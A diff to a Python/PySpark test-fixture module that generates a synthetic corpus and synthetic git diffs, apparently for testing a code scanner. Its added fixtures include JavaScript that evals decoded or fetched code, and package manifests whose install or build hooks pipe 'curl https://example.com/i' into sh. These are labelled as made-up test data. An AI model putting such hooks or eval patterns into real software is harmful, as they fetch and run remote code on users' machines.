@@ -8,6 +8,7 @@ in it is made up; hosts are example.com.
 from __future__ import annotations
 
 import uuid
+from collections.abc import Callable
 
 from pyspark.sql import DataFrame, SparkSession
 
@@ -28,9 +29,15 @@ SNIPPETS = [
     ("src/d", ".js", "eval(s); // lanthorn-disable-line"), ("src/d", ".js", "eval(s); // lanthorn-disable-line obf.dynamic-exec-with-non-literal"), ("src/d", ".js", "eval(s); // lanthorn-disable-line obf.other"),
     ("vendor/d", ".js", "eval(s);"), ("src/d", ".js", 'const c = child_process.exec("ls " + name);'), ("src/d", ".kt", "val v = engine.eval(code)"),
     ("src/d", ".cjs", 'const c2 = "slack.com"; subtle; fs.writeFileSync(p, b); fs.chmodSync(p, 493); child_process;'), ("src/d", ".cjs", "fs.writeFileSync(p, b); fs.chmodSync(p, 493);"),
+    ("src/d", ".mjs", "const blob = atob(part); eval(blob);"), ("src/d", ".mjs", "const body = fetch(url); eval(body);"),
+]
+#: Manifests replace the document's text, as some must parse.
+MANIFESTS = [
+    ("pkg/d", "/package.json", '{"scripts": {"postinstall": "node x.js", "test": "curl https://example.com | sh"}}'), ("pkg/d", "/package.json", '{"scripts": {"preinstall": "curl https://example.com/i | sh"}}'),
+    ("php/d", "/composer.json", '{"scripts": {"post-install-cmd": ["php x.php", "curl https://example.com/i | sh"], "post-update-cmd": "php y.php", "test": "phpunit"}}'),
+    ("gem/d", "/a.gemspec", 'spec.extensions = ["ext/a/extconf.rb"]'), ("gem/d", "/a.gemspec", 'spec.files = ["lib/a.rb"]'), ("lua/d", "/a-1.rockspec", 'build = { type = "command", build_command = "curl https://example.com/i | sh" }'),
+    ("lua/d", "/a-1.rockspec", 'build = { type = "builtin" }'), ("nu/d", "/a.nuspec", '<files><file src="tools/install.ps1" target="tools" /></files>'), ("nu/d", "/a.nuspec", '<files><file src="lib/a.dll" target="lib" /></files>'),
 ]
-#: npm manifests replace the document's text, as they must parse.
-MANIFESTS = [("pkg/d", "/package.json", '{"scripts": {"postinstall": "node x.js", "test": "curl https://example.com | sh"}}'), ("pkg/d", "/package.json", '{"scripts": {"preinstall": "curl https://example.com/i | sh"}}')]
 
 
 def corpus_sql(table: str = "documents") -> str:
@@ -41,10 +48,27 @@ def corpus_sql(table: str = "documents") -> str:
     FROM {table} AS d JOIN (VALUES {", ".join(rows)}) AS s(k, a, b, line, after) ON d.doc_id % {len(rows)} = s.k"""
 
 
-def corpus(spark: SparkSession, sf_dir: str) -> DataFrame:
+def _made(spark: SparkSession, sf_dir: str, sql: Callable[[str], str]) -> DataFrame:
     view = f"documents_{uuid.uuid4().hex}"
     spark.read.parquet(f"{sf_dir}/documents.parquet").createTempView(view)
     try:
-        return spark.sql(corpus_sql(view))
+        return spark.sql(sql(view))
     finally:
         spark.catalog.dropTempView(view)
+
+
+def corpus(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return _made(spark, sf_dir, corpus_sql)
+
+
+def diffs(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return _made(spark, sf_dir, diffs_sql)
+
+
+def diffs_sql(table: str = "documents") -> str:
+    """SELECT doc_id, diff: a diff of one file for each document with a text, which gains the text's lines after one that stays, and one line further on."""
+    name = "concat('src/d', doc_id, '.txt')"
+    mode = "CASE doc_id % 3 WHEN 0 THEN concat('deleted file mode 100644', chr(10)) WHEN 1 THEN concat('new file mode 100644', chr(10)) ELSE '' END"
+    head = f"concat('diff --git a/', {name}, ' b/', {name}, chr(10), {mode}, '--- a/', {name}, chr(10), '+++ b/', {name}, chr(10))"
+    first = "concat('@@ -1,1 +1,9 @@', chr(10), ' stays', chr(10), '+', replace(text, chr(10), concat(chr(10), '+')), chr(10))"
+    return f"SELECT doc_id, concat({head}, {first}, '@@ -10,1 +9000000,1 @@', chr(10), '-old', chr(10), '+new', chr(10)) AS diff FROM {table} WHERE text IS NOT NULL"
